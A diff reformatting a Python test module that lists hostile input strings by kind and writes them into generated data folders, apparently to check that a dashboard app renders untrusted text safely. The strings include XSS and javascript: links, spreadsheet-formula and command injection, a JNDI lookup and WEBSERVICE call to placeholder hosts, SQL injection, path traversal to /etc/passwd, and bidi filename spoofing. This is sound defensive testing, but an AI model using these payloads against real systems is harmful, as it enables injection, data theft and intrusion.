@@ -47,49 +47,284 @@ _AROUND = ("{}", '">{}', "'>{}", "</title>{}", "]]>--></textarea></style></scrip
 _COLOURS = ("red", "orange", "yellow", "green", "blue", "violet", "gray", "grey", "primary", "rainbow")
 _KINDS: Mapping[str, tuple[str, ...]] = {
     "html": tuple(around.format(element) for around, element in product(_AROUND, _ELEMENTS)),
-    "entities": ("&lt;b&gt;x", "&amp;amp;", "&#60;b&#62;", "&#x3c;b>", "&nbsp;", "&bogus;", "%3Cb%3E", "\\u003cb\\u003e", "\\x3cb>", "＜b＞x＜/b＞"),
+    "entities": (
+        "&lt;b&gt;x",
+        "&amp;amp;",
+        "&#60;b&#62;",
+        "&#x3c;b>",
+        "&nbsp;",
+        "&bogus;",
+        "%3Cb%3E",
+        "\\u003cb\\u003e",
+        "\\x3cb>",
+        "＜b＞x＜/b＞",
+    ),
     "addresses": (
-        *("https://evil.example/x", "HTTP://EVIL.EXAMPLE", "www.evil.example", "//evil.example", "a@evil.example", "mailto:a@evil.example", "xmpp:a@evil.example"),
-        *("javascript:alert(1)", "data:text/html,<script>1</script>", "file:///etc/passwd", "ftp://evil.example", "\\\\evil.example\\x", "<https://evil.example>", "http:evil"),
+        *(
+            "https://evil.example/x",
+            "HTTP://EVIL.EXAMPLE",
+            "www.evil.example",
+            "//evil.example",
+            "a@evil.example",
+            "mailto:a@evil.example",
+            "xmpp:a@evil.example",
+        ),
+        *(
+            "javascript:alert(1)",
+            "data:text/html,<script>1</script>",
+            "file:///etc/passwd",
+            "ftp://evil.example",
+            "\\\\evil.example\\x",
+            "<https://evil.example>",
+            "http:evil",
+        ),
     ),
     "markdown": (
-        *("# x", "#x", "- x", "+ x", "* x", "1. x", "2) x", "> x", "---", "***", "===", "    x", "\\", "\\*x\\*", "**x**", "__x__", "*x*", "_x_", "`x`", "```x```", "~~x~~", "~x~"),
-        *("[x](https://evil.example)", "[x](javascript:window.pwned=1)", f"![x](https:{_HOST}/x.png)", f"[![x](https:{_HOST}/y.png)](x)", f"[x]: https:{_HOST}", "[x]", "[^1]"),
-        *("[^1]: x", "- [ ] x", "| a | b |", "|---|---|", "==x==", "x^2^", "H~2~O", "x  ", "{#id .class}", "<!-- x -->", "*[x]: y", "![x][y]", "a\\", "1986. x"),
+        *(
+            "# x",
+            "#x",
+            "- x",
+            "+ x",
+            "* x",
+            "1. x",
+            "2) x",
+            "> x",
+            "---",
+            "***",
+            "===",
+            "    x",
+            "\\",
+            "\\*x\\*",
+            "**x**",
+            "__x__",
+            "*x*",
+            "_x_",
+            "`x`",
+            "```x```",
+            "~~x~~",
+            "~x~",
+        ),
+        *(
+            "[x](https://evil.example)",
+            "[x](javascript:window.pwned=1)",
+            f"![x](https:{_HOST}/x.png)",
+            f"[![x](https:{_HOST}/y.png)](x)",
+            f"[x]: https:{_HOST}",
+            "[x]",
+            "[^1]",
+        ),
+        *(
+            "[^1]: x",
+            "- [ ] x",
+            "| a | b |",
+            "|---|---|",
+            "==x==",
+            "x^2^",
+            "H~2~O",
+            "x  ",
+            "{#id .class}",
+            "<!-- x -->",
+            "*[x]: y",
+            "![x][y]",
+            "a\\",
+            "1986. x",
+        ),
     ),
     "directives": (
         *(f":{colour}{form}[x]" for colour, form in product(_COLOURS, ("", "-background", "-badge"))),
-        *(":material/home:", ":material_home:", ":streamlit:", ":smile:", ":+1:", ":a:", ":x: :y:", ":small[x]", ":shimmer[x]", ":help[x]", "::x[y]", ":::x"),
-        *(":red[:material/home:]", ':color[x]{foreground="red"}', ":red[[x](https://evil.example)]", ":red[$x$]", ":material/", "::", ":[x]", "a:b:c", ":1:", "\\:red[x]"),
+        *(
+            ":material/home:",
+            ":material_home:",
+            ":streamlit:",
+            ":smile:",
+            ":+1:",
+            ":a:",
+            ":x: :y:",
+            ":small[x]",
+            ":shimmer[x]",
+            ":help[x]",
+            "::x[y]",
+            ":::x",
+        ),
+        *(
+            ":red[:material/home:]",
+            ':color[x]{foreground="red"}',
+            ":red[[x](https://evil.example)]",
+            ":red[$x$]",
+            ":material/",
+            "::",
+            ":[x]",
+            "a:b:c",
+            ":1:",
+            "\\:red[x]",
+        ),
         *("->", "a -> b", "<- a", "a <-> b", "a -- b", ">= 3", "<= 3", "~= 3", "-> -> ->"),
     ),
     "formulas of TeX": (
-        *("$x$", "$$x$$", "$x^2$ and $y$", "\\(x\\)", "\\[x\\]", "$\\href{javascript:alert(1)}{x}$", f"$\\includegraphics{{https:{_HOST}/x.png}}$", "$\\input{/etc/passwd}$"),
-        *("$\\def\\x{\\x\\x}\\x$", "\\begin{x}", "$5 and $6", "\\$x\\$", "$`x`$", "\\frac{1}{0}", "%x", "\\write18{id}"),
+        *(
+            "$x$",
+            "$$x$$",
+            "$x^2$ and $y$",
+            "\\(x\\)",
+            "\\[x\\]",
+            "$\\href{javascript:alert(1)}{x}$",
+            f"$\\includegraphics{{https:{_HOST}/x.png}}$",
+            "$\\input{/etc/passwd}$",
+        ),
+        *(
+            "$\\def\\x{\\x\\x}\\x$",
+            "\\begin{x}",
+            "$5 and $6",
+            "\\$x\\$",
+            "$`x`$",
+            "\\frac{1}{0}",
+            "%x",
+            "\\write18{id}",
+        ),
     ),
     "formulas of a spreadsheet": (
-        *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example")', '=WEBSERVICE("https://evil.example")', "=IMPORTXML(1,2)", "=DDE(1,2,3)"),
-        *("＝1+1", "＋1", "－1", "＠x", " =1+1", "\t=1+1", "'=1+1", '"=1+1', ";=1+1", ",=1+1", "%0A=1+1", "|=1", "=x\u00a0"),
+        *(
+            "=1+1",
+            "+1+1",
+            "-1+1",
+            "@SUM(1)",
+            "=cmd|' /C calc'!A0",
+            '=HYPERLINK("https://evil.example")',
+            '=WEBSERVICE("https://evil.example")',
+            "=IMPORTXML(1,2)",
+            "=DDE(1,2,3)",
+        ),
+        *(
+            "＝1+1",
+            "＋1",
+            "－1",
+            "＠x",
+            " =1+1",
+            "\t=1+1",
+            "'=1+1",
+            '"=1+1',
+            ";=1+1",
+            ",=1+1",
+            "%0A=1+1",
+            "|=1",
+            "=x\u00a0",
+        ),
     ),
     "templates": (
-        *("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% x %}", "{0}", "{view}", "{0.__class__}", "{", "}", "%s%n%x", "%(x)s", "%{x}", "%{hovertext}"),
+        *(
+            "{{7*7}}",
+            "${7*7}",
+            "#{7*7}",
+            "<%= 7*7 %>",
+            "{% x %}",
+            "{0}",
+            "{view}",
+            "{0.__class__}",
+            "{",
+            "}",
+            "%s%n%x",
+            "%(x)s",
+            "%{x}",
+            "%{hovertext}",
+        ),
         *("$table", "${table}", "$(id)", "`id`"),
-        *(f"${{jndi:ldap:{_HOST}/x}}", "'; DROP TABLE x;--", '" OR 1=1 --', "*)(uid=*", "|| id", "; id", "& id", "(a+)+$", ".*", "[", "\\d", "__proto__"),
+        *(
+            f"${{jndi:ldap:{_HOST}/x}}",
+            "'; DROP TABLE x;--",
+            '" OR 1=1 --',
+            "*)(uid=*",
+            "|| id",
+            "; id",
+            "& id",
+            "(a+)+$",
+            ".*",
+            "[",
+            "\\d",
+            "__proto__",
+        ),
         *("constructor", "NaN", "null", "None"),
-        *("../../etc/passwd", "..\\..\\x", "/etc/passwd", "~", "con.txt", "x.csv", "%00", "%2e%2e%2f", "%ff", "%", "!!python/object:x", "&a x", "*a", "<<: x"),
+        *(
+            "../../etc/passwd",
+            "..\\..\\x",
+            "/etc/passwd",
+            "~",
+            "con.txt",
+            "x.csv",
+            "%00",
+            "%2e%2e%2f",
+            "%ff",
+            "%",
+            "!!python/object:x",
+            "&a x",
+            "*a",
+            "<<: x",
+        ),
         *("? x", "- - x", "{a: b}", "@x"),
     ),
-    "terminals": ("\x1b[31mx", "\x1b]0;x\x07", "\x1b[2J", "\x1b]8;;https://evil.example\x07x", "\x9b31mx", "x\x08\x08y", "\x07", "\x1bc", "x\ry", "x\x7f"),
+    "terminals": (
+        "\x1b[31mx",
+        "\x1b]0;x\x07",
+        "\x1b[2J",
+        "\x1b]8;;https://evil.example\x07x",
+        "\x9b31mx",
+        "x\x08\x08y",
+        "\x07",
+        "\x1bc",
+        "x\ry",
+        "x\x7f",
+    ),
     "directions": tuple(
-        f"a{mark}txt.exe{end}" for mark, end in (("\u202e", ""), ("\u202d", "\u202c"), ("\u202a", ""), ("\u202b", ""), ("\u2066", "\u2069"), ("\u2067", ""), ("\u2068", ""))
+        f"a{mark}txt.exe{end}"
+        for mark, end in (
+            ("\u202e", ""),
+            ("\u202d", "\u202c"),
+            ("\u202a", ""),
+            ("\u202b", ""),
+            ("\u2066", "\u2069"),
+            ("\u2067", ""),
+            ("\u2068", ""),
+        )
     )
     + tuple(f"a{mark}b" for mark in "\u200e\u200f\u061c")
     + ("שלום (a) 1", "مرحبا [b] 2"),
-    "invisible": tuple(f"a{mark}b" for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u115f\u3164\u2800\u00a0\u3000\u2003\ufe0f\U000e0041")
+    "invisible": tuple(
+        f"a{mark}b"
+        for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u115f\u3164\u2800\u00a0\u3000\u2003\ufe0f\U000e0041"
+    )
     + ("\u200b", "\u3164", "\u3000", " ", "", "\t", "\ufeff"),
-    "control": tuple(f"a{chr(code)}b" for code in (0, 1, 9, 10, 11, 12, 13, 28, 31, 127, 128, 133, 159, 0x2028, 0x2029)) + ("\0", "a\r\nSet-Cookie: x=1", "a\r\n\r\n<b>"),
-    "broken": ("\ud800", "a\udfffb", "\udc00\ud800", "\ud83d", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\ue000", "\U000f0000", "\U0001f3fb"),
-    "alphabets": ("ｆｕｌｌ", "ﬁ ﬂ", "İıſß", "é vs é", "Å Å", "аdmin", "Z̷̛̙a̸͎͛l̵̥̒g̴̻̚o̷̡̚", "👩‍👩‍👧‍👦", "🇨🇳", "𝕏𝔶", "①", "ǆ", "\u0e33\u0e47", "ꙮ", "﷽", "𒐫"),
+    "control": tuple(f"a{chr(code)}b" for code in (0, 1, 9, 10, 11, 12, 13, 28, 31, 127, 128, 133, 159, 0x2028, 0x2029))
+    + ("\0", "a\r\nSet-Cookie: x=1", "a\r\n\r\n<b>"),
+    "broken": (
+        "\ud800",
+        "a\udfffb",
+        "\udc00\ud800",
+        "\ud83d",
+        "\ufffd",
+        "\ufffe",
+        "\uffff",
+        "\U0010ffff",
+        "\ue000",
+        "\U000f0000",
+        "\U0001f3fb",
+    ),
+    "alphabets": (
+        "ｆｕｌｌ",
+        "ﬁ ﬂ",
+        "İıſß",
+        "é vs é",
+        "Å Å",
+        "аdmin",
+        "Z̷̛̙a̸͎͛l̵̥̒g̴̻̚o̷̡̚",
+        "👩‍👩‍👧‍👦",
+        "🇨🇳",
+        "𝕏𝔶",
+        "①",
+        "ǆ",
+        "\u0e33\u0e47",
+        "ꙮ",
+        "﷽",
+        "𒐫",
+    ),
     "overlong": (
         "a" * 1001,
         "改" * 5000,
@@ -107,7 +342,9 @@ _KINDS: Mapping[str, tuple[str, ...]] = {
 }
 """The kinds, each with its strings."""
 
-HOSTILE: Mapping[str, str] = {f"{kind} {number}": text for kind, texts in _KINDS.items() for number, text in enumerate(texts)}
+HOSTILE: Mapping[str, str] = {
+    f"{kind} {number}": text for kind, texts in _KINDS.items() for number, text in enumerate(texts)
+}
 """Every string by its name, which is printable."""
 
 
@@ -131,9 +368,17 @@ def case(number: int, texts: Iterator[str], year: int = 2020) -> dict[str, Any]:
 
     dated = {"period": {"end": 2020, "kind": "as_of"}}
     figures: Mapping[str, dict[str, Any]] = {
-        "a": {"before": {"value": 1}, "after": {"value": 2, **dated}, "compared_with": {"label": both(), "end": {"value": 3}}},
+        "a": {
+            "before": {"value": 1},
+            "after": {"value": 2, **dated},
+            "compared_with": {"label": both(), "end": {"value": 3}},
+        },
         "b": {"after": {"value": 5, **dated}, "change": {"value": 2, "kind": "difference"}},
-        "c": {"after": dated, "change": {"value": 20, "kind": "relative"}, "caveats": [{"kind": "other", "note": both()}]},
+        "c": {
+            "after": dated,
+            "change": {"value": 20, "kind": "relative"},
+            "caveats": [{"kind": "other", "note": both()}],
+        },
         "d": {"after": dated, "change": {"value": 3, "kind": "difference"}},
         "e": {"after": {"value": 7, **dated}},
         "f": {"after": {"text": both(), **dated}},
@@ -155,7 +400,16 @@ def case(number: int, texts: Iterator[str], year: int = 2020) -> dict[str, Any]:
         "events": [{"date": "2020-05-01", "what": both()}],
         "headlines": ["a"],
         "metrics": [
-            {"id": name, "name": shared if name in "ab" else both(), "subject": both(), "place": place, **fixed, "phrases": [phrase()], "section": next(texts), **figure}
+            {
+                "id": name,
+                "name": shared if name in "ab" else both(),
+                "subject": both(),
+                "place": place,
+                **fixed,
+                "phrases": [phrase()],
+                "section": next(texts),
+                **figure,
+            }
             for (name, figure), place in zip(figures.items(), places, strict=True)
         ],
         "conflicts": [{"id": "x", "metrics": ["a"], "phrases": [phrase(), phrase()], "note": both()}],
@@ -183,7 +437,14 @@ def hostile_folder(path: Path, texts: Sequence[str], cases: int) -> Path:
     further: Mapping[str, list[dict[str, Any]]] = {
         "domains": [{"id": f"field-{number}", "name": {"zh": text, "en": text}} for number, text in enumerate(texts)],
         "places": [
-            {"id": f"city-{number}", "code": f"{412000 + number}", "name": {"zh": text, "en": text}, "prefecture": f"city-{number}", **point} for number, text in enumerate(marked)
+            {
+                "id": f"city-{number}",
+                "code": f"{412000 + number}",
+                "name": {"zh": text, "en": text},
+                "prefecture": f"city-{number}",
+                **point,
+            }
+            for number, text in enumerate(marked)
         ],
         "units": [],
     }
@@ -193,9 +454,16 @@ def hostile_folder(path: Path, texts: Sequence[str], cases: int) -> Path:
         _write(file, [*({**entry, "name": {"zh": next(dealt), "en": next(dealt)}} for entry in entries), *more])
     outlines = json.loads((path / "reference" / "henan.geojson").read_bytes())
     triangle = {"type": "Polygon", "coordinates": [[[113.0, 34.0], [113.0, 34.1], [113.1, 34.0], [113.0, 34.0]]]}
-    outlines["features"] += [{"type": "Feature", "id": city["code"], "properties": {}, "geometry": triangle} for city in further["places"]]
+    outlines["features"] += [
+        {"type": "Feature", "id": city["code"], "properties": {}, "geometry": triangle} for city in further["places"]
+    ]
     _write(path / "reference" / "henan.geojson", outlines)
-    source = {"title": {"zh": next(dealt), "en": next(dealt)}, "issuer": {"zh": next(dealt), "en": next(dealt)}, "date": "2021-07-09", "year": 2020}
+    source = {
+        "title": {"zh": next(dealt), "en": next(dealt)},
+        "issuer": {"zh": next(dealt), "en": next(dealt)},
+        "date": "2021-07-09",
+        "year": 2020,
+    }
     _write(path / "reference" / "source.yaml", source)
     return path
 
